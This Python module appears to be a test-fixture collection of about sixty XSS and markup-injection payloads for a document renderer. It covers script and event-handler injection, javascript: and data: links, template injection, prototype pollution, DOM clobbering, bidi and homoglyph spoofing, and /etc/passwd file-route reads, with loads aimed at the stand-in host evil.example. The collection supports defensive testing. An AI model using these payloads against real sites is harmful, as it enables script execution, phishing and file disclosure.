"""XSS and markup payloads: sixty ways to have a page run, load or link something.

Whatever runs sets `__owned`, opens a dialog, changes the title or logs "owned"; whatever loads or
links leads to evil.example. Every payload says "evil" or "owned", so that one can see it shown.
"""

from dataclasses import dataclass, field

EVIL = "https://evil.example"
RUN = "window.__owned=1;document.title=`owned`;console.log(`owned`)"
LOAD = f"(new Image).src=`{EVIL}/loaded.png`"


@dataclass(frozen=True, slots=True, kw_only=True)
class Payload:
    """`text` is the markup; `kind` the suffix of the file; `about` its front matter."""

    name: str
    text: str
    kind: str = "md"
    about: dict[str, object] = field(default_factory=dict)
    file_name: str = ""  # without suffix, where it is a part of the attack


def _p(name: str, text: str, kind: str = "md", file_name: str = "", **about: object) -> Payload:
    return Payload(name=name, text=text, kind=kind, file_name=file_name, about=about)


_ELEMENTS = (
    _p("script", f"<script>{RUN}</script><script src={EVIL}/s.js></script>"),
    _p("script-case", f"<ScRiPt\n>{RUN}</sCrIpT\t><scr<script>ipt>{RUN}</scr</script>ipt>"),
    _p("module", f'<script type="module">import "{EVIL}/m.js";{RUN}</script>', kind="txt"),
    _p(
        "iframe", f'<iframe src="{EVIL}/f"></iframe><iframe srcdoc="<script>parent.{RUN}</script>">'
    ),
    _p("object", f'<object data="{EVIL}/o.swf"></object><embed src="{EVIL}/e.swf">'),
    _p(
        "form",
        f'<form action="{EVIL}/f"><button formaction="javascript:{RUN}" autofocus>evil</button>'
        f'<input name=q onfocus="{RUN}" autofocus></form><isindex action={EVIL}/i>',
    ),
    _p("base", f'<base href="{EVIL}/"><a href="login">evil relative link</a><img src="x.png">'),
    _p("link", f'<link rel=stylesheet href="{EVIL}/l.css"><link rel=prefetch href="{EVIL}/l.png">'),
    _p("refresh", f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh">'),
    _p(
        "style",
        f'<style>@import "{EVIL}/i.css";*{{background:url({EVIL}/bg.png) !important}}</style>'
        f'<p style="background:url({EVIL}/style.png);position:fixed;inset:0">evil cover</p>'
        f'<p style="width:expression({RUN});-moz-binding:url({EVIL}/x)">evil',
    ),
    _p("svg-script", f"<svg><script>{RUN}</script><image href={EVIL}/s.png /></svg>"),
    _p("svg-onload", f"<svg/onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s>"),
    _p(
        "svg-foreign",
        f'<svg><foreignObject><iframe src="{EVIL}/fo"></iframe></foreignObject>'
        f'<use href="{EVIL}/u.svg#x"/><a xlink:href="javascript:{RUN}"><text y=9>evil</text></a>'
        f'</svg><math href="javascript:{RUN}"><maction actiontype="statusline#{EVIL}">evil',
    ),
    _p("img-onerror", f"<img src=x onerror={RUN}><img src=`x` onerror='{RUN}'>"),
    _p(
        "img-srcset",
        f'<img srcset="{EVIL}/1.png 1x, {EVIL}/2.png 2x" src={EVIL}/0.png loading=eager>'
        f'<picture><source srcset="{EVIL}/p.png"><img alt=evil src="{EVIL}/q.png"></picture>',
    ),
    _p(
        "media",
        f'<video autoplay src="{EVIL}/v.mp4" poster="{EVIL}/v.png" onerror={RUN}></video>'
        f'<audio autoplay src="{EVIL}/a.mp3"></audio><track src="{EVIL}/t.vtt">',
    ),
    _p(
        "handlers",
        f'<div onmouseover="{RUN}" onclick={RUN} style="font-size:99px">evil</div>'
        f"<body onload={RUN}><marquee onstart={RUN}>evil</marquee>",
    ),
    _p(
        "details",
        f"<details open ontoggle={RUN}><summary>evil</summary></details>"
        f"<button popovertarget=evil>e</button><div popover id=evil onbeforetoggle={RUN}>",
    ),
    _p(
        "dialog",
        f"<dialog open><h1>evil: log in again</h1><input autofocus onfocus={RUN}></dialog>",
    ),
    _p(
        "template", f"<template shadowrootmode=open><img src={EVIL}/t.png onerror={RUN}></template>"
    ),
)

_MARKDOWN = (
    _p(
        "md-image",
        f'![evil]({EVIL}/i.png) ![evil]({EVIL}/t.png "evil title") ![](<{EVIL}/a b.png>)'
        f" ![evil][pic] and ![pic][]\n\n[pic]: {EVIL}/reference.png 'evil'",
    ),
    _p(
        "md-image-bare",
        f"![evil](//evil.example/protocol.png) ![e](data:image/svg+xml,<svg/onload={RUN}>)",
    ),
    _p(
        "md-image-link",
        f'[![evil]({EVIL}/linked.png "x\' onerror=\'{RUN}")](javascript:{RUN} "evil")',
    ),
    _p("md-link", f"[evil](javascript:{RUN}) [evil](JaVaScRiPt:{RUN}) [evil](vbscript:msgbox(1))"),
    _p(
        "md-link-tabs",
        f"[evil](<java\tscript:{RUN}>) [evil](java&#10;script:{RUN}) [evil](&#106;avascript:{RUN})"
        f" <a href=\"java\nscript:{RUN}\">evil</a> <a href=' &#x1;javascript:{RUN}'>evil</a>",
    ),
    _p(
        "md-link-data",
        f"[evil](data:text/html,<script>{RUN}</script>) [evil](file:///etc/passwd)"
        f" [evil](blob:{EVIL}/1) [evil](view-source:{EVIL})",
    ),
    _p(
        "md-link-reference",
        f"[evil][one], [evil]\n\n[one]: javascript:{RUN}\n[evil]: {EVIL}/two 'evil'",
    ),
    _p(
        "md-autolink",
        f"<{EVIL}/auto> {EVIL}/bare www.evil.example <javascript:{RUN}> <a@evil.example>",
    ),
    _p("md-html-block", f"<div>\n\n**evil**\n\n<img src={EVIL}/b.png onerror={RUN}>\n\n</div>"),
    _p("md-fence", f"```html\n<img src={EVIL}/f.png onerror={RUN}>\n```\n``` {RUN}\n~~~\nevil"),
    _p(
        "md-mermaid",
        f'```mermaid\ngraph TD; A["<img src={EVIL}/m.png onerror={RUN}>"]\n'
        f'click A href "javascript:{RUN}"\n```\nevil',
    ),
    _p(
        "md-math", f"$$\\href{{javascript:{RUN}}}{{evil}}$$ \\(\\includegraphics{{{EVIL}/k.png}}\\)"
    ),
    _p(
        "md-footnote",
        f"evil[^1] | evil |\n\n[^1]: <img src={EVIL}/n.png onerror={RUN}>\n\n| a |\n|-|\n"
        f"| <img src={EVIL}/c.png> |",
    ),
    _p(
        "file-route",
        "![evil](/gradio_api/file=http://evil.example/p.png)"
        ' <img src="/gradio_api/file=https://evil.example/q.png"> [evil](/file=/etc/passwd)',
    ),
)

_TEMPLATES = (
    _p(
        "dollar", f"${{{RUN}}} ${{constructor.constructor('{LOAD}')()}} #{{{RUN}}} evil", kind="txt"
    ),
    _p(
        "handlebars",
        f"{{{{constructor.constructor('{LOAD};{RUN}')()}}}} {{{{{{evil}}}}}} {{% evil %}}",
    ),
    _p("erb", f"<%= {RUN} %> <% evil %> <?php echo 'evil' ?> [[${{{RUN}}}]] `${{{LOAD}}}`"),
    _p(
        "json",
        f'</script><script>{RUN}</script> "}};{RUN};// \u2028{RUN}\u2029 ]]> evil',
        kind="txt",
    ),
    _p(
        "prototype",
        '{"__proto__": {"polluted": "evil"}, "constructor": {"prototype": {"polluted": "evil"}}}',
        file_name="__proto__",
        author="__proto__",
        outlet="constructor",
        section="hasOwnProperty",
        tags=["toString", "__proto__", "valueOf"],
    ),
    _p(
        "clobber",
        '<form id=byline-panel name=byline><input id=byline-ask name=attributes value="evil">'
        '<a id=byline-settings name=chat href="https://evil.example/c">evil</a></form>'
        '<img name=querySelector><img name=body><a id=location href="https://evil.example/l">evil</a>',
    ),
    _p(
        "fake-parts",
        '<div class="byline-answer"><a class="byline-marker" href="#byline/evil/1/1">[1]</a>'
        '<a class="byline-action" role="button" href="#do/down/evil">evil</a>'
        '<a href="#do/plain/evil/authors" role=button>evil</a></div>'
        " [evil](#do/retry/evil) [1](#byline/evil/2)",
    ),
)

_CHARACTERS = (
    _p(
        "comments",
        f"<!-- evil --><!--><img src={EVIL}/c.png onerror={RUN}>--> <!-->{RUN}<![endif]-->",
    ),
    _p(
        "cdata",
        f"<![CDATA[<img src={EVIL}/d.png onerror={RUN}>]]> <!DOCTYPE evil [<!ENTITY x 'y'>]>",
    ),
    _p(
        "entities",
        f"&lt;img src={EVIL}/e.png onerror={RUN}&gt; &#60;script&#62;{RUN}&#x3c;/script>"
        f" &amp;lt;script&amp;gt;{RUN}",
    ),
    _p("half-closed", f'"><img src={EVIL}/h.png onerror={RUN} \'"><a href="{EVIL}/h" title=\'evil'),
    _p(
        "control",
        f"<im\x01g src={EVIL}/z.png><\x0cscript>{RUN}\x1b]8;;{EVIL}\x07evil\x08\x7f",
        kind="txt",
    ),
    _p(
        "bidi",
        "evil \u202e\u2066gnp.live//:sptth\u2069\u202c moc.elpmaxe.\u200flive",
        title="\u202egnp.live \u2067evil\u2069",
    ),
    _p("zero-width", "ev\u200bil o\u2060wned \ufefflog\u00adin java\u200bscript:evil \u180eowned"),
    _p(
        "tag-characters",
        "evil" + "".join(chr(0xE0000 + ord(c)) for c in "<img src=evil>") + " owned",
    ),
    _p(
        "homoglyph",
        f"[https://bank.example]({EVIL}/bank) https://еvil.example <a href={EVIL}>bank</a>",
        kind="txt",
        url="https://еvil.example/evil",
    ),
    _p("unbroken", "evil" * 5_000, title="evil" * 300, author="owned" * 200),
    _p("deep", "<b>" * 400 + "> " * 60 + "[" * 300 + "evil" + "](" * 300 + "*" * 200),
)

_FRONT_MATTER = (
    _p(
        "about-markup",
        f"<img src={EVIL}/a.png onerror={RUN}>",
        title=f"<img src={EVIL}/title.png onerror={RUN}> evil",
        author=f"<script>{RUN}</script> evil",
        outlet=f"![evil]({EVIL}/outlet.png)",
        section=f"<a href=javascript:{RUN}>evil</a>",
        tags=[f"<svg onload={RUN}>", f"${{{RUN}}}", "{{evil}}"],
        url=f"javascript:{RUN}//https://evil.example",
        file_name=f"<img src=x onerror={RUN.split(';')[0]}>",
    ),
    _p(
        "about-quotes",
        f'" onmouseover="{RUN}" x="evil',
        title=f"evil\"' onmouseover='{RUN}' x=\"",
        author=f'"><img src={EVIL}/q.png>',
        url='https://evil.example/"onmouseover="evil',
        tags=['"evil"', "'evil'", "\\evil\\", "a,b;evil"],
        file_name="\"'`onmouseover=__owned=1 evil",
    ),
)

_OTHER_FORMATS = (
    _p(
        "page",
        f"<img src={EVIL}/page.png onerror={RUN}>",
        kind="html",
        title=f"<script>{RUN}</script>",
    ),
    _p(
        "page-templates",
        f"${{{RUN}}} {{{{evil}}}} [evil](javascript:{RUN})",
        kind="html",
        author="{{constructor.evil}}",
        title="${evil} {{owned}}",
    ),
    _p(
        "word",
        f"<script>{RUN}</script> ![evil]({EVIL}/word.png)",
        kind="docx",
        title=f"<img src={EVIL}/core.png onerror={RUN}>",
        author=f"[evil](javascript:{RUN})",
    ),
    _p(
        "word-link",
        f"[evil](javascript:{RUN}) ${{{RUN}}}",
        kind="docx",
        title="evil {{owned}}",
        file_name="${evil} {{owned}} #do down evil",
    ),
    _p(
        "pdf",
        f"<img src={EVIL}/pdf.png onerror={RUN}>",
        kind="pdf",
        title=f"<script>{RUN}</script>",
    ),
    _p(
        "pdf-link",
        f"![evil]({EVIL}/pdf2.png) [evil](javascript:{RUN})",
        kind="pdf",
        title="${owned}",
    ),
)

PAYLOADS = (
    _ELEMENTS + _MARKDOWN + _TEMPLATES + _CHARACTERS + _FRONT_MATTER + _OTHER_FORMATS
)  # fmt: skip
